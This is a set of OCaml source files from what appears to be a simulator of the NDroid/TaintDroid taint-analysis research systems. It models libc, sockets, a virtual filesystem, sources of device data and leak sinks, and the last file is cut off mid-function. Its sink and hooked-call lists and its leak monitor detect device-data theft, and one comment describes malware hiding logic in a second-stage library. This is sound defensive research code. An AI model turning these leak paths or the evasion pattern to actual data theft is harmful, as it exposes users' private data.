(* --- stdio --- *)

let fn_fopen ctx cpu mem =
  let path = Memory.read_cstring mem (arg cpu mem 0) in
  let mode = Memory.read_cstring mem (arg cpu mem 1) in
  let open_mode =
    if String.length mode > 0 && mode.[0] = 'r' then `Read
    else if String.length mode > 0 && mode.[0] = 'a' then `Append
    else `Write
  in
  match Filesystem.open_file ctx.fs path open_mode with
  | fd -> ret cpu (new_file ctx fd)
  | exception Not_found -> ret cpu 0

let fn_fclose ctx cpu mem =
  let ptr = arg cpu mem 0 in
  (match file_fd ctx ptr with
   | Some fd ->
     Filesystem.close ctx.fs fd;
     Hashtbl.remove ctx.files ptr
   | None -> ());
  ignore mem;
  ret cpu 0

let with_file ctx cpu mem ~file_arg f =
  match file_fd ctx (arg cpu mem file_arg) with
  | Some fd -> f fd
  | None -> ret cpu 0

let fn_fwrite ctx cpu mem =
  with_file ctx cpu mem ~file_arg:3 (fun fd ->
      let ptr = arg cpu mem 0 and size = arg cpu mem 1 and n = arg cpu mem 2 in
      let data = Bytes.to_string (Memory.read_bytes mem ptr (size * n)) in
      ignore (Filesystem.write ctx.fs fd data);
      ret cpu n)

let fn_fread ctx cpu mem =
  with_file ctx cpu mem ~file_arg:3 (fun fd ->
      let ptr = arg cpu mem 0 and size = arg cpu mem 1 and n = arg cpu mem 2 in
      let data = Filesystem.read ctx.fs fd (size * n) in
      Memory.write_string mem ptr data;
      ret cpu (String.length data / max 1 size))

let fn_fputs ctx cpu mem =
  with_file ctx cpu mem ~file_arg:1 (fun fd ->
      let s = Memory.read_cstring mem (arg cpu mem 0) in
      ignore (Filesystem.write ctx.fs fd s);
      ret cpu (String.length s))

let fn_fputc ctx cpu mem =
  with_file ctx cpu mem ~file_arg:1 (fun fd ->
      let c = arg cpu mem 0 land 0xFF in
      ignore (Filesystem.write ctx.fs fd (String.make 1 (Char.chr c)));
      ret cpu c)

let fn_fgets ctx cpu mem =
  with_file ctx cpu mem ~file_arg:2 (fun fd ->
      let buf = arg cpu mem 0 and n = arg cpu mem 1 in
      let data = Filesystem.read ctx.fs fd (max 0 (n - 1)) in
      if data = "" then ret cpu 0
      else begin
        Memory.write_cstring mem buf data;
        ret cpu buf
      end)

let fn_getc ctx cpu mem =
  with_file ctx cpu mem ~file_arg:0 (fun fd ->
      let data = Filesystem.read ctx.fs fd 1 in
      ret cpu (if data = "" then -1 else Char.code data.[0]))

let fn_fprintf ctx cpu mem =
  with_file ctx cpu mem ~file_arg:0 (fun fd ->
      let rendered, _ = format_args mem cpu ~fmt:(arg cpu mem 1) ~first:2 in
      ignore (Filesystem.write ctx.fs fd rendered);
      ret cpu (String.length rendered))

let fn_fdopen ctx cpu mem =
  ignore mem;
  ret cpu (new_file ctx (arg cpu mem 0))

(* --- file descriptors --- *)

let fn_open ctx cpu mem =
  let path = Memory.read_cstring mem (arg cpu mem 0) in
  let flags = arg cpu mem 1 in
  let mode = if flags land 1 <> 0 || flags land 0x40 <> 0 then `Append else `Read in
  (match Filesystem.open_file ctx.fs path mode with
   | fd -> ret cpu fd
   | exception Not_found ->
     (* O_CREAT *)
     if flags land 0x40 <> 0 then begin
       Filesystem.set_contents ctx.fs path "";
       ret cpu (Filesystem.open_file ctx.fs path `Append)
     end
     else ret cpu (-1 land mask32))

let fn_close ctx cpu mem =
  ignore mem;
  Filesystem.close ctx.fs (arg cpu mem 0);
  Network.close ctx.net (arg cpu mem 0);
  ret cpu 0

let fn_write ctx cpu mem =
  let fd = arg cpu mem 0 and buf = arg cpu mem 1 and n = arg cpu mem 2 in
  let data = Bytes.to_string (Memory.read_bytes mem buf n) in
  (match Filesystem.path_of_fd ctx.fs fd with
   | Some _ -> ignore (Filesystem.write ctx.fs fd data)
   | None -> (
     (* maybe a socket *)
     try ignore (Network.send ctx.net fd data) with Invalid_argument _ -> ()));
  ret cpu n

let fn_read ctx cpu mem =
  let fd = arg cpu mem 0 and buf = arg cpu mem 1 and n = arg cpu mem 2 in
  match Filesystem.path_of_fd ctx.fs fd with
  | Some _ ->
    let data = Filesystem.read ctx.fs fd n in
    Memory.write_string mem buf data;
    ret cpu (String.length data)
  | None -> ret cpu 0

let fn_mkdir _ctx cpu mem =
  ignore mem;
  ret cpu 0

let fn_stat _ctx cpu mem =
  ignore mem;
  ret cpu 0

let fn_mmap ctx cpu mem =
  ignore mem;
  ret cpu (Native_heap.malloc ctx.heap (arg cpu mem 1))

let fn_munmap ctx cpu mem =
  ignore mem;
  Native_heap.free ctx.heap (arg cpu mem 0);
  ret cpu 0

let fn_ret0 _ctx cpu mem =
  ignore mem;
  ret cpu 0

(* --- sockets --- *)

let fn_socket ctx cpu mem =
  ignore mem;
  ret cpu (Network.socket ctx.net)

let fn_connect ctx cpu mem =
  (* The simulated sockaddr is simply a C string naming the destination. *)
  let fd = arg cpu mem 0 in
  let dest = Memory.read_cstring mem (arg cpu mem 1) in
  (try
     Network.connect ctx.net fd dest;
     ret cpu 0
   with Invalid_argument _ -> ret cpu (-1 land mask32))

let fn_send ctx cpu mem =
  let fd = arg cpu mem 0 and buf = arg cpu mem 1 and n = arg cpu mem 2 in
  let data = Bytes.to_string (Memory.read_bytes mem buf n) in
  (try ret cpu (Network.send ctx.net fd data)
   with Invalid_argument _ -> ret cpu (-1 land mask32))

let fn_sendto ctx cpu mem =
  let fd = arg cpu mem 0 and buf = arg cpu mem 1 and n = arg cpu mem 2 in
  let dest = Memory.read_cstring mem (arg cpu mem 4) in
  let data = Bytes.to_string (Memory.read_bytes mem buf n) in
  (try ret cpu (Network.sendto ctx.net fd data dest)
   with Invalid_argument _ -> ret cpu (-1 land mask32))

let fn_recv ctx cpu mem =
  let fd = arg cpu mem 0 and buf = arg cpu mem 1 and n = arg cpu mem 2 in
  (try
     let data = Network.recv ctx.net fd in
     let data = if String.length data > n then String.sub data 0 n else data in
     Memory.write_string mem buf data;
     ret cpu (String.length data)
   with Invalid_argument _ -> ret cpu (-1 land mask32))

let functions ctx =
  let f name handler = (name, fun cpu mem -> handler ctx cpu mem) in
  [ f "memcpy" fn_memcpy;
    f "memmove" fn_memcpy;
    f "memset" fn_memset;
    f "memcmp" fn_memcmp;
    f "memchr" fn_memchr;
    f "strlen" fn_strlen;
    f "strcmp" fn_strcmp;
    f "strncmp" fn_strncmp;
    f "strcasecmp" fn_strcasecmp;
    f "strncasecmp" fn_strncasecmp;
    f "strcpy" fn_strcpy;
    f "strncpy" fn_strncpy;
    f "strcat" fn_strcat;
    f "strchr" fn_strchr;
    f "strrchr" fn_strrchr;
    f "strstr" fn_strstr;
    f "atoi" fn_atoi;
    f "atol" fn_atol;
    f "strtoul" fn_strtoul;
    f "malloc" fn_malloc;
    f "calloc" fn_calloc;
    f "free" fn_free;
    f "realloc" fn_realloc;
    f "strdup" fn_strdup;
    f "sprintf" fn_sprintf;
    f "vsprintf" fn_sprintf;
    f "snprintf" fn_snprintf;
    f "vsnprintf" fn_snprintf;
    f "sscanf" fn_sscanf;
    f "sysconf" fn_sysconf;
    f "fopen" fn_fopen;
    f "fclose" fn_fclose;
    f "fwrite" fn_fwrite;
    f "fread" fn_fread;
    f "fputs" fn_fputs;
    f "fputc" fn_fputc;
    f "fgets" fn_fgets;
    f "getc" fn_getc;
    f "fprintf" fn_fprintf;
    f "vfprintf" fn_fprintf;
    f "fdopen" fn_fdopen;
    f "open" fn_open;
    f "close" fn_close;
    f "write" fn_write;
    f "read" fn_read;
    f "mkdir" fn_mkdir;
    f "stat" fn_stat;
    f "fstat" fn_stat;
    f "fcntl" fn_ret0;
    f "ioctl" fn_ret0;
    f "mmap" fn_mmap;
    f "munmap" fn_munmap;
    f "mprotect" fn_ret0;
    f "rename" fn_ret0;
    f "remove" fn_ret0;
    f "kill" fn_ret0;
    f "fork" fn_ret0;
    f "execve" fn_ret0;
    f "chown" fn_ret0;
    f "ptrace" fn_ret0;
    f "select" fn_ret0;
    f "listen" fn_ret0;
    f "accept" fn_ret0;
    f "bind" fn_ret0;
    f "dlopen" (fun ctx cpu mem ->
        let name = Memory.read_cstring mem (arg cpu mem 0) in
        let handle =
          match ctx.dl_open with Some dl -> dl name | None -> 0
        in
        ret cpu handle);
    f "dlsym" (fun ctx cpu mem ->
        let handle = arg cpu mem 0 in
        let sym = Memory.read_cstring mem (arg cpu mem 1) in
        let addr =
          match ctx.dl_sym with Some dl -> dl handle sym | None -> 0
        in
        ret cpu addr);
    f "dlclose" fn_ret0;
    f "socket" fn_socket;
    f "connect" fn_connect;
    f "send" fn_send;
    f "sendto" fn_sendto;
    f "recv" fn_recv;
    f "recvfrom" fn_recv ]
