(** Sensitive-information sources.

    "TaintDroid adds taints to the sources of sensitive information (GPS
    data, SMS messages, IMSI, IMEI, etc.)" (paper, Sec. II-B).  Each
    intrinsic returns device data from the {!Device_profile} already tagged
    with its TaintDroid category, so the tags seen downstream match the
    paper's logs (contacts = 0x2, contacts+SMS = 0x202, …). *)

val install : Ndroid_dalvik.Vm.t -> Device_profile.t -> unit
(** Define the source classes ([TelephonyManager], [ContactsProvider],
    [SmsProvider], [LocationManager]) and their intrinsics. *)

val source_catalog : (string * string * Ndroid_taint.Taint.t) list
(** Every source method as (class, method, tag) — the system's "taint
    source" configuration, used by documentation and tests. *)
