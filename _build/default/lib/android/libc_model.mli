(** Modeled C library.

    "Since the system standard functions will be frequently called by native
    libraries, instrumenting every instruction in these standard functions
    will take a long time and incur heavy overhead.  Instead, we model the
    taint propagation operations for popular functions" (paper, Sec. V-D).

    This module supplies the {e behaviour} of those functions (Table VI's
    libc column plus Table VII's call surface): each is a host function
    mounted at an address inside the guest's libc.so.  The taint summaries
    live in NDroid's system-lib hook engine; behaviour runs regardless of
    which analysis is attached, exactly as the real libc does. *)

module Cpu = Ndroid_arm.Cpu
module Memory = Ndroid_arm.Memory

type ctx

val create_ctx : Filesystem.t -> Network.t -> Native_heap.t -> ctx

val functions : ctx -> (string * (Cpu.t -> Memory.t -> unit)) list
(** Every modeled function as (name, handler).  Handlers read arguments
    from r0-r3 and the stack per the AAPCS, perform the behaviour, and
    leave the result in r0 (r0:r1 for doubles). *)

val arg : Cpu.t -> Memory.t -> int -> int
(** AAPCS argument [i]: r0-r3 then the stack. *)

(** A vararg consumed by the printf family, as both the formatter and
    NDroid's sink handler need to see them. *)
type vararg =
  | Str of { addr : int; value : string }  (** a [%s] argument *)
  | Num of int  (** any numeric argument *)

val format_args :
  Memory.t -> Cpu.t -> fmt:int -> first:int -> string * vararg list
(** [format_args mem cpu ~fmt ~first] renders the format string at guest
    address [fmt] taking varargs starting at AAPCS argument index [first].
    Supports [%s %d %u %x %c %%]. Returns the rendered string and the
    varargs consumed in order. *)

val file_fd : ctx -> int -> int option
(** Map a [FILE*] guest pointer to its file descriptor. *)

val set_dl : ctx -> dl_open:(string -> int) -> dl_sym:(int -> string -> int) -> unit
(** Install the dynamic loader backing [dlopen]/[dlsym].  The runtime wires
    these to its library table, letting native code load a second-stage
    library and call into it by function pointer — the "hide the core
    business logic" pattern of the paper's Type II study. *)
