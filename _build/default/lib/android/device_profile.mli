(** The simulated device's sensitive data: what TaintDroid's sources return.

    Defaults reproduce the values visible in the paper's logs: the Android
    emulator's phone number 15555215554 and network operator 310260
    (Fig. 9), and the contact {1, "Vincent", "cx@gg.com"} (Fig. 8). *)

type contact = { contact_id : int; name : string; email : string; phone : string }

type sms = { sms_from : string; body : string }

type t = {
  imei : string;
  imsi : string;
  iccid : string;
  line1_number : string;
  network_operator : string;
  device_serial : string;
  latitude : float;
  longitude : float;
  contacts : contact list;
  sms_inbox : sms list;
}

val default : t
(** The emulator-like profile used by every experiment. *)

val contact_record : contact -> string
(** ["id name email"] rendering used by the contact-query intrinsics. *)
