module Vm = Ndroid_dalvik.Vm
module Jbuilder = Ndroid_dalvik.Jbuilder
module Dvalue = Ndroid_dalvik.Dvalue
module Taint = Ndroid_taint.Taint

let socket_cls = "Ljava/net/Socket;"
let sms_cls = "Landroid/telephony/SmsManager;"
let fos_cls = "Ljava/io/FileOutputStream;"
let log_cls = "Landroid/util/Log;"

let sink_catalog =
  [ (socket_cls, "send");
    (sms_cls, "sendTextMessage");
    (fos_cls, "writeFile");
    (log_cls, "i") ]

let install vm net fs monitor =
  let intr = Vm.register_intrinsic vm in
  Vm.define_class vm
    (Jbuilder.class_ ~name:socket_cls ~super:"Ljava/lang/Object;"
       [ Jbuilder.intrinsic_method ~cls:socket_cls ~name:"send" ~shorty:"VLL"
           "Socket.send" ]);
  intr "Socket.send" (fun vm args ->
      let dest = Framework.string_arg vm args 0
      and data = Framework.string_arg vm args 1 in
      (match
         Sink_monitor.decide monitor ~sink:"Socket.send"
           ~context:Sink_monitor.Java_context ~taint:(snd args.(1)) ~data
           ~detail:dest
       with
       | `Block -> ()
       | `Allow ->
         let fd = Network.socket net in
         Network.connect net fd dest;
         ignore (Network.send net fd data);
         Network.close net fd);
      (Dvalue.zero, Taint.clear));

  Vm.define_class vm
    (Jbuilder.class_ ~name:sms_cls ~super:"Ljava/lang/Object;"
       [ Jbuilder.intrinsic_method ~cls:sms_cls ~name:"sendTextMessage"
           ~shorty:"VLL" "SmsManager.sendTextMessage" ]);
  intr "SmsManager.sendTextMessage" (fun vm args ->
      let dest = Framework.string_arg vm args 0
      and data = Framework.string_arg vm args 1 in
      (match
         Sink_monitor.decide monitor ~sink:"SmsManager.sendTextMessage"
           ~context:Sink_monitor.Java_context ~taint:(snd args.(1)) ~data
           ~detail:dest
       with
       | `Block -> ()
       | `Allow ->
         ignore (Network.sendto net (Network.socket net) data ("sms:" ^ dest)));
      (Dvalue.zero, Taint.clear));

  Vm.define_class vm
    (Jbuilder.class_ ~name:fos_cls ~super:"Ljava/lang/Object;"
       [ Jbuilder.intrinsic_method ~cls:fos_cls ~name:"writeFile" ~shorty:"VLL"
           "FileOutputStream.writeFile" ]);
  intr "FileOutputStream.writeFile" (fun vm args ->
      let path = Framework.string_arg vm args 0
      and data = Framework.string_arg vm args 1 in
      (match
         Sink_monitor.decide monitor ~sink:"FileOutputStream.writeFile"
           ~context:Sink_monitor.Java_context ~taint:(snd args.(1)) ~data
           ~detail:path
       with
       | `Block -> ()
       | `Allow ->
         let fd = Filesystem.open_file fs path `Append in
         ignore (Filesystem.write fs fd data);
         Filesystem.close fs fd;
         (* TaintDroid persists the tag in the file's xattr *)
         Filesystem.add_xattr_taint fs path (snd args.(1)));
      (Dvalue.zero, Taint.clear));

  Vm.define_class vm
    (Jbuilder.class_ ~name:"Ljava/io/FileInputStream;" ~super:"Ljava/lang/Object;"
       [ Jbuilder.intrinsic_method ~cls:"Ljava/io/FileInputStream;"
           ~name:"readFile" ~shorty:"LL" "FileInputStream.readFile" ]);
  intr "FileInputStream.readFile" (fun vm args ->
      let path = Framework.string_arg vm args 0 in
      let data = try Filesystem.contents fs path with Not_found -> "" in
      (* the xattr tag comes back with the contents *)
      Vm.new_string vm ~taint:(Filesystem.xattr_taint fs path) data);

  Vm.define_class vm
    (Jbuilder.class_ ~name:log_cls ~super:"Ljava/lang/Object;"
       [ Jbuilder.intrinsic_method ~cls:log_cls ~name:"i" ~shorty:"VLL" "Log.i" ]);
  intr "Log.i" (fun vm args ->
      let tag = Framework.string_arg vm args 0
      and data = Framework.string_arg vm args 1 in
      Sink_monitor.inspect monitor ~sink:"Log.i"
        ~context:Sink_monitor.Java_context ~taint:(snd args.(1)) ~data ~detail:tag;
      (Dvalue.zero, Taint.clear))
