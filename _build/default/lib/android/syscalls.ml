let hooked =
  [ "fwrite"; "fclose"; "fopen"; "fread"; "close"; "write"; "fputc"; "read";
    "fputs"; "open"; "fcntl"; "fstat"; "munmap"; "mmap"; "dlopen"; "stat";
    "fgets"; "socket"; "connect"; "send"; "recv"; "dlsym"; "bind"; "dlclose";
    "ioctl"; "listen"; "mkdir"; "accept"; "select"; "getc"; "rename"; "sendto";
    "recvfrom"; "fdopen"; "mprotect"; "remove"; "kill"; "fork"; "execve";
    "chown"; "ptrace"; "sysconf"; "fprintf" ]

let sinks = [ "fwrite"; "write"; "fputc"; "fputs"; "send"; "sendto"; "fprintf" ]
let is_sink name = List.mem name sinks

let modeled_libc =
  [ "memcpy"; "free"; "malloc"; "memset"; "strlen"; "strcmp"; "realloc";
    "strcpy"; "memcmp"; "strncmp"; "memmove"; "sprintf"; "strncpy"; "fprintf";
    "strchr"; "snprintf"; "calloc"; "strstr"; "atoi"; "strrchr"; "memchr";
    "strcat"; "sscanf"; "vsnprintf"; "strcasecmp"; "strdup"; "strncasecmp";
    "strtoul"; "sysconf"; "vsprintf"; "vfprintf"; "atol" ]

let modeled_libm =
  [ "sin"; "pow"; "cos"; "sqrt"; "floor"; "log"; "strtod"; "strtol"; "exp";
    "atan2"; "sinf"; "ceil"; "cosf"; "sqrtf"; "tan"; "acos"; "log10"; "atan";
    "asin"; "ldexp"; "sinh"; "cosh"; "fmod"; "powf"; "atan2f"; "expf" ]
