let region_base = 0x2A000000
let region_size = 0x04000000 (* 64 MiB *)

type t = {
  live : (int, int) Hashtbl.t;  (* addr -> size *)
  mutable free_list : (int * int) list;  (* (addr, size), address-ordered *)
  mutable bump : int;
  mutable total : int;
}

let create () =
  { live = Hashtbl.create 256; free_list = []; bump = region_base; total = 0 }

let align8 n = (n + 7) land lnot 7

let malloc h n =
  let n = align8 (max n 8) in
  (* first fit on the free list *)
  let rec take acc = function
    | [] -> None
    | (addr, size) :: rest when size >= n ->
      let remainder =
        if size - n >= 16 then [ (addr + n, size - n) ] else []
      in
      Some (addr, List.rev_append acc (remainder @ rest))
    | entry :: rest -> take (entry :: acc) rest
  in
  let addr =
    match take [] h.free_list with
    | Some (addr, fl) ->
      h.free_list <- fl;
      addr
    | None ->
      if h.bump + n > region_base + region_size then raise Out_of_memory;
      let addr = h.bump in
      h.bump <- h.bump + n;
      addr
  in
  Hashtbl.replace h.live addr n;
  h.total <- h.total + 1;
  addr

let free h addr =
  match Hashtbl.find_opt h.live addr with
  | Some size ->
    Hashtbl.remove h.live addr;
    h.free_list <-
      List.sort compare ((addr, size) :: h.free_list)
  | None -> ()

let realloc h addr n =
  match Hashtbl.find_opt h.live addr with
  | Some old_size ->
    free h addr;
    let fresh = malloc h n in
    (fresh, old_size)
  | None -> (malloc h n, 0)

let block_size h addr = Hashtbl.find_opt h.live addr
let live_blocks h = Hashtbl.length h.live
let total_allocated h = h.total
