(** Leak reporting.

    Sinks (Java-context intrinsics and native-context library calls) call
    {!inspect} with the data about to leave the device and whatever taint
    the active analysis attributes to it.  Which analysis answers — none
    (vanilla), TaintDroid, or NDroid — determines which of the paper's
    Table-I cases get caught; the monitor itself is analysis-neutral. *)

type context = Java_context | Native_context

(** What to do when tainted data reaches a sink.  [Observe] is the paper's
    NDroid (report only); [Block] is the protection mechanism its Sec. VII
    sketches as future work (and AppFence's approach in the related work):
    the leak is recorded {e and} the sink's effect is suppressed or the
    payload scrubbed. *)
type policy = Observe | Block

type leak = {
  sink : string;  (** e.g. ["send"], ["fprintf"], ["Socket.send"] *)
  context : context;
  taint : Ndroid_taint.Taint.t;
  data : string;  (** payload (possibly truncated) *)
  detail : string;  (** destination / path *)
  blocked : bool;  (** the effect was suppressed by the [Block] policy *)
}

type t

val create : unit -> t

val inspect :
  t ->
  sink:string ->
  context:context ->
  taint:Ndroid_taint.Taint.t ->
  data:string ->
  detail:string ->
  unit
(** Record a leak iff [taint] is non-clear (never blocks). *)

val decide :
  t ->
  sink:string ->
  context:context ->
  taint:Ndroid_taint.Taint.t ->
  data:string ->
  detail:string ->
  [ `Allow | `Block ]
(** Like {!inspect}, but the caller is expected to honour the verdict:
    [`Block] iff the data is tainted and the policy is {!Block}. *)

val set_policy : t -> policy -> unit
val policy : t -> policy

val blocked_count : t -> int
(** Leaks whose effect was suppressed. *)

val leaks : t -> leak list
(** Oldest first. *)

val leak_count : t -> int
val clear : t -> unit

val pp_leak : Format.formatter -> leak -> unit
