(** Virtual filesystem.

    Backs the file-oriented libc calls of Table VII ([fopen], [fwrite],
    [fprintf], …) and the Java [FileOutputStream] sink.  Files live in
    memory; every write is also journaled so experiments can show exactly
    what leaked to, e.g., [/sdcard/CONTACTS] (Fig. 8). *)

type t

type write_record = { w_path : string; w_data : string }

val create : unit -> t

val open_file : t -> string -> [ `Read | `Write | `Append ] -> int
(** Returns a file descriptor. Opening for read a missing file raises
    [Not_found]. *)

val write : t -> int -> string -> int
(** Append data through a descriptor; returns the byte count.
    @raise Invalid_argument on a bad descriptor. *)

val read : t -> int -> int -> string
(** [read fs fd n] reads up to [n] bytes from the descriptor's position. *)

val close : t -> int -> unit
val exists : t -> string -> bool
val contents : t -> string -> string
(** Whole-file contents. @raise Not_found if absent. *)

val set_contents : t -> string -> string -> unit
(** Create or replace a file (device images, assets). *)

val writes : t -> write_record list
(** The journal, oldest first. *)

val path_of_fd : t -> int -> string option

(** {1 Extended-attribute taint}

    TaintDroid persists taint across file storage in an extended attribute
    (the paper's experimental setup runs a kernel "with XATTR support for
    the YAFFS2 filesystem" for exactly this).  One tag per file. *)

val xattr_taint : t -> string -> Ndroid_taint.Taint.t
val add_xattr_taint : t -> string -> Ndroid_taint.Taint.t -> unit
val set_xattr_taint : t -> string -> Ndroid_taint.Taint.t -> unit
