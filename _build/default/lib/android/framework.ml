module Vm = Ndroid_dalvik.Vm
module Heap = Ndroid_dalvik.Heap
module Dvalue = Ndroid_dalvik.Dvalue
module Jbuilder = Ndroid_dalvik.Jbuilder
module Taint = Ndroid_taint.Taint

let string_arg vm (args : Vm.tval array) i = Vm.string_of_value vm (fst args.(i))
let int_arg (args : Vm.tval array) i = Int32.to_int (Dvalue.as_int (fst args.(i)))
let taint_arg (args : Vm.tval array) i = snd args.(i)

let unit_result : Vm.tval = (Dvalue.zero, Taint.clear)

let exception_classes =
  [ "Ljava/lang/Exception;"; "Ljava/lang/RuntimeException;";
    "Ljava/lang/NullPointerException;"; "Ljava/lang/ArithmeticException;";
    "Ljava/lang/ArrayIndexOutOfBoundsException;";
    "Ljava/lang/NegativeArraySizeException;"; "Ljava/lang/SecurityException;";
    "Ljava/lang/VirtualMachineError;" ]

let install vm =
  let intr = Vm.register_intrinsic vm in
  (* ---- java.lang.Object ---- *)
  Vm.define_class vm
    (Jbuilder.class_ ~name:"Ljava/lang/Object;"
       [ Jbuilder.intrinsic_method ~cls:"Ljava/lang/Object;" ~name:"<init>"
           ~shorty:"V" ~static:false "Object.<init>" ]);
  intr "Object.<init>" (fun _vm _args -> unit_result);

  (* ---- java.lang.String ---- *)
  let str_cls = "Ljava/lang/String;" in
  Vm.define_class vm
    (Jbuilder.class_ ~name:str_cls ~super:"Ljava/lang/Object;"
       [ Jbuilder.intrinsic_method ~cls:str_cls ~name:"length" ~shorty:"I"
           ~static:false "String.length";
         Jbuilder.intrinsic_method ~cls:str_cls ~name:"concat" ~shorty:"LL"
           ~static:false "String.concat";
         Jbuilder.intrinsic_method ~cls:str_cls ~name:"equals" ~shorty:"ZL"
           ~static:false "String.equals";
         Jbuilder.intrinsic_method ~cls:str_cls ~name:"substring" ~shorty:"LII"
           ~static:false "String.substring";
         Jbuilder.intrinsic_method ~cls:str_cls ~name:"charAt" ~shorty:"II"
           ~static:false "String.charAt";
         Jbuilder.intrinsic_method ~cls:str_cls ~name:"toUpperCase" ~shorty:"L"
           ~static:false "String.toUpperCase";
         Jbuilder.intrinsic_method ~cls:str_cls ~name:"valueOf" ~shorty:"LI"
           "String.valueOf" ]);
  intr "String.length" (fun vm args ->
      let s = string_arg vm args 0 in
      (* TaintDroid: the length of a tainted string is tainted (the string
         object's char-array tag flows out). *)
      (Dvalue.Int (Int32.of_int (String.length s)), taint_arg args 0));
  intr "String.concat" (fun vm args ->
      let a = string_arg vm args 0 and b = string_arg vm args 1 in
      let t = Taint.union (taint_arg args 0) (taint_arg args 1) in
      Vm.new_string vm ~taint:t (a ^ b));
  intr "String.equals" (fun vm args ->
      let a = string_arg vm args 0 and b = string_arg vm args 1 in
      let t = Taint.union (taint_arg args 0) (taint_arg args 1) in
      (Dvalue.Int (if a = b then 1l else 0l), t));
  intr "String.substring" (fun vm args ->
      let s = string_arg vm args 0 in
      let lo = int_arg args 1 and hi = int_arg args 2 in
      if lo < 0 || hi > String.length s || lo > hi then
        Vm.throw vm "Ljava/lang/ArrayIndexOutOfBoundsException;" "substring";
      Vm.new_string vm ~taint:(taint_arg args 0) (String.sub s lo (hi - lo)));
  intr "String.charAt" (fun vm args ->
      let s = string_arg vm args 0 in
      let i = int_arg args 1 in
      if i < 0 || i >= String.length s then
        Vm.throw vm "Ljava/lang/ArrayIndexOutOfBoundsException;" "charAt";
      (Dvalue.Int (Int32.of_int (Char.code s.[i])), taint_arg args 0));
  intr "String.toUpperCase" (fun vm args ->
      let s = string_arg vm args 0 in
      Vm.new_string vm ~taint:(taint_arg args 0) (String.uppercase_ascii s));
  intr "String.valueOf" (fun vm args ->
      let v = int_arg args 0 in
      Vm.new_string vm ~taint:(taint_arg args 0) (string_of_int v));

  (* ---- java.lang.StringBuilder ---- *)
  let sb_cls = "Ljava/lang/StringBuilder;" in
  Vm.define_class vm
    (Jbuilder.class_ ~name:sb_cls ~super:"Ljava/lang/Object;" ~fields:[ "buf" ]
       [ Jbuilder.intrinsic_method ~cls:sb_cls ~name:"<init>" ~shorty:"V"
           ~static:false "StringBuilder.<init>";
         Jbuilder.intrinsic_method ~cls:sb_cls ~name:"append" ~shorty:"LL"
           ~static:false "StringBuilder.append";
         Jbuilder.intrinsic_method ~cls:sb_cls ~name:"appendInt" ~shorty:"LI"
           ~static:false "StringBuilder.appendInt";
         Jbuilder.intrinsic_method ~cls:sb_cls ~name:"toString" ~shorty:"L"
           ~static:false "StringBuilder.toString" ]);
  let sb_slot vm args =
    match fst args.(0) with
    | Dvalue.Obj id -> (
      match (Heap.get vm.Vm.heap id).Heap.kind with
      | Heap.Instance { values; taints; _ } -> (values, taints)
      | Heap.String _ | Heap.Array _ ->
        raise (Vm.Dvm_error "StringBuilder receiver is not an instance"))
    | _ -> raise (Vm.Dvm_error "StringBuilder receiver missing")
  in
  intr "StringBuilder.<init>" (fun vm args ->
      let values, taints = sb_slot vm args in
      let s, t = Vm.new_string vm "" in
      values.(0) <- s;
      taints.(0) <- t;
      unit_result);
  intr "StringBuilder.append" (fun vm args ->
      let values, taints = sb_slot vm args in
      let cur = Vm.string_of_value vm values.(0) in
      let extra = string_arg vm args 1 in
      let t = Taint.union taints.(0) (taint_arg args 1) in
      let s, _ = Vm.new_string vm ~taint:t (cur ^ extra) in
      values.(0) <- s;
      taints.(0) <- t;
      args.(0));
  intr "StringBuilder.appendInt" (fun vm args ->
      let values, taints = sb_slot vm args in
      let cur = Vm.string_of_value vm values.(0) in
      let t = Taint.union taints.(0) (taint_arg args 1) in
      let s, _ = Vm.new_string vm ~taint:t (cur ^ string_of_int (int_arg args 1)) in
      values.(0) <- s;
      taints.(0) <- t;
      args.(0));
  intr "StringBuilder.toString" (fun vm args ->
      let values, taints = sb_slot vm args in
      let s = Vm.string_of_value vm values.(0) in
      Vm.new_string vm ~taint:taints.(0) s);

  (* ---- exception hierarchy ---- *)
  List.iter
    (fun name ->
      Vm.define_class vm
        (Jbuilder.class_ ~name
           ~super:(if name = "Ljava/lang/Exception;" then "Ljava/lang/Object;"
                   else "Ljava/lang/Exception;")
           ~fields:[ "message" ]
           [ Jbuilder.intrinsic_method ~cls:name ~name:"getMessage" ~shorty:"L"
               ~static:false "Exception.getMessage" ]))
    exception_classes;
  intr "Exception.getMessage" (fun vm args ->
      match fst args.(0) with
      | Dvalue.Obj id -> (
        match (Heap.get vm.Vm.heap id).Heap.kind with
        | Heap.Instance { values; taints; _ } -> (values.(0), taints.(0))
        | Heap.String _ | Heap.Array _ -> (Dvalue.Null, Taint.clear))
      | _ -> (Dvalue.Null, Taint.clear))
