type write_record = { w_path : string; w_data : string }

type descriptor = { d_path : string; mutable d_pos : int; mutable d_open : bool }

type t = {
  files : (string, Buffer.t) Hashtbl.t;
  fds : (int, descriptor) Hashtbl.t;
  mutable next_fd : int;
  mutable journal : write_record list;
  xattrs : (string, Ndroid_taint.Taint.t) Hashtbl.t;
}

let create () =
  { files = Hashtbl.create 16; fds = Hashtbl.create 16; next_fd = 3;
    journal = []; xattrs = Hashtbl.create 16 }

let xattr_taint fs path =
  Option.value ~default:Ndroid_taint.Taint.clear (Hashtbl.find_opt fs.xattrs path)

let add_xattr_taint fs path tag =
  if Ndroid_taint.Taint.is_tainted tag then
    Hashtbl.replace fs.xattrs path
      (Ndroid_taint.Taint.union (xattr_taint fs path) tag)

let set_xattr_taint fs path tag =
  if Ndroid_taint.Taint.is_clear tag then Hashtbl.remove fs.xattrs path
  else Hashtbl.replace fs.xattrs path tag

let buffer_of fs path =
  match Hashtbl.find_opt fs.files path with
  | Some b -> b
  | None ->
    let b = Buffer.create 64 in
    Hashtbl.replace fs.files path b;
    b

let open_file fs path mode =
  (match mode with
   | `Read -> if not (Hashtbl.mem fs.files path) then raise Not_found
   | `Write ->
     (* truncate *)
     Hashtbl.replace fs.files path (Buffer.create 64)
   | `Append -> ignore (buffer_of fs path));
  let fd = fs.next_fd in
  fs.next_fd <- fd + 1;
  Hashtbl.replace fs.fds fd { d_path = path; d_pos = 0; d_open = true };
  fd

let descriptor fs fd =
  match Hashtbl.find_opt fs.fds fd with
  | Some d when d.d_open -> d
  | Some _ -> invalid_arg (Printf.sprintf "fd %d is closed" fd)
  | None -> invalid_arg (Printf.sprintf "fd %d unknown" fd)

let write fs fd data =
  let d = descriptor fs fd in
  Buffer.add_string (buffer_of fs d.d_path) data;
  fs.journal <- { w_path = d.d_path; w_data = data } :: fs.journal;
  String.length data

let read fs fd n =
  let d = descriptor fs fd in
  let b = buffer_of fs d.d_path in
